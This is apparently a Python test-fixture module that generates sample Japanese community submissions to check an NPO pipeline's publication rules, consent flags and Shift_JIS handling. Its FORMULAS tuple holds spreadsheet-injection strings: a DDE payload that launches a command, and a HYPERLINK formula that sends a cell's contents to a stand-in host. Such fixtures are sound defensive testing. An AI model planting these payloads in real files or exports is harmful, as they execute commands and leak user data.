"""Voices that try the rules of publication: told in confidence, dangerous to open, or never approved."""

from __future__ import annotations

from datetime import date, timedelta
from random import Random

from ingest.sample.submissions.model import Record
from ingest.sample.submissions.personal import CONFIDENCES, UNAPPROVED_MARKERS
from ingest.sample.submissions.phrases import list_phrases
from ingest.sample.submissions.voices import Voice

#: Texts a spreadsheet would take for formulas.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://mihon-wana.example/?x="&A1,"詳しくはこちら")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+81から始まる番号にかけても出ないという相談があった。",
    "-予約が取れない\n-教える人がいない\nという二つの声があった。",
)
#: Characters that only the Windows dialect of Shift_JIS holds.
DIALECT = (
    "①受付 ②相談 ③見守りの順に、㈱や㈲の会社にも声をかけたい。"
    "髙い坂と﨑の浜の集落では冬に人手が足りない。№１の困りごと。"
)

#: In the years of a file of that encoding.
DIALECT_DAY = date(2023, 6, 10)
FIRST_DAY = date(2025, 1, 15)

QUOTABLE = (True, True, False)
_COUNTABLE = (True, False, False)
_CLOSED = (False, False, False)
_NAMEABLE = (True, True, True)

#: Places among the marked voices of those that somebody tried to approve.
REWORDED = 8  # the text changed after it was approved
WITHDRAWN = 9
WITHOUT_CONSENT = 10
FLAGGED = 11  # its telephone number was not accepted by the person who approved it

#: Consents of the marked voices: quotable ones too, since consent alone lets nobody read a text.
_CONSENTS = (
    QUOTABLE,
    _COUNTABLE,
    _CLOSED,
    _NAMEABLE,
    QUOTABLE,
    _COUNTABLE,
    _CLOSED,
    _NAMEABLE,
    QUOTABLE,
    QUOTABLE,
    _CLOSED,
    QUOTABLE,
)


def confide(rng: Random, members: dict[str, tuple[str, ...]], serial: int = 7001) -> list[Voice]:
    """Return the voices of this module, dealt to the members in turn; the marked ones come first.

    Args:
        rng: source of randomness.
        members: prefectures each member listens to, by its id.
        serial: number of the first; no other voice has one so high.
    """
    marked = [
        (marker + "で聞いた。" + _sample(rng), _CONSENTS[number])
        for number, marker in enumerate(UNAPPROVED_MARKERS)
    ]
    marked[FLAGGED] = (marked[FLAGGED][0] + CONFIDENCES[0][0], QUOTABLE)
    told = [(_sample(rng) + sentence, QUOTABLE) for sentence, _ in CONFIDENCES]
    texts = [*marked, *told, *((text, QUOTABLE) for text in (*FORMULAS, DIALECT))]
    ids = list(members)
    return [
        _tell(ids[number % len(ids)], members[ids[number % len(ids)]], text, consents, serial + number)
        for number, (text, consents) in enumerate(texts)
    ]


def _sample(rng: Random) -> str:
    concerns, wishes = list_phrases(rng.choice(("isolation", "older_people", "children_places")))
    return f"{rng.choice(concerns)}。{rng.choice(wishes)}。"


def _tell(
    member_id: str, prefectures: tuple[str, ...], text: str, consents: tuple[bool, bool, bool], serial: int
) -> Voice:
    heard_on = DIALECT_DAY if text == DIALECT else FIRST_DAY + timedelta(days=17 * (serial % 30))
    record: Record = {
        "voice_id": f"V{heard_on.year}-{serial}",
        "heard_on": heard_on,
        "prefecture_code": prefectures[0],
        "municipality": None,
        "event_id": None,
        "main_issue": "isolation",
        "other_issues": None,
        "raised_by": "npo_staff",
        "is_sensitive": None,
        "text": text,
        "consent_aggregate": consents[0],
        "consent_quote_anonymous": consents[1],
        "consent_quote_attributed_org": consents[2],
    }
    return Voice(member_id, record)
